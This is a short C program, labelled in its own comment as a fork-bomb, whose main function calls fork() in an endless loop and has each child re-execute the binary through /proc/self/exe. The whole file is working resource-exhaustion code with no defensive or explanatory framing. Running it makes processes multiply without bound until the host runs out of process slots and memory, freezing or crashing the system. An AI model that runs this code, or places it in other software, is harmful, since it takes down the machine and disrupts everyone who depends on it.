/* As fork-bomb, each child a new image: orphans, zombies and memory on their way at every moment. */
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc == 1)
        write(1, "started\n", 8);
    for (;;)
        if (fork() == 0) {
            execl("/proc/self/exe", argv[0], "again", (char *)NULL);
            _exit(1);
        }
}
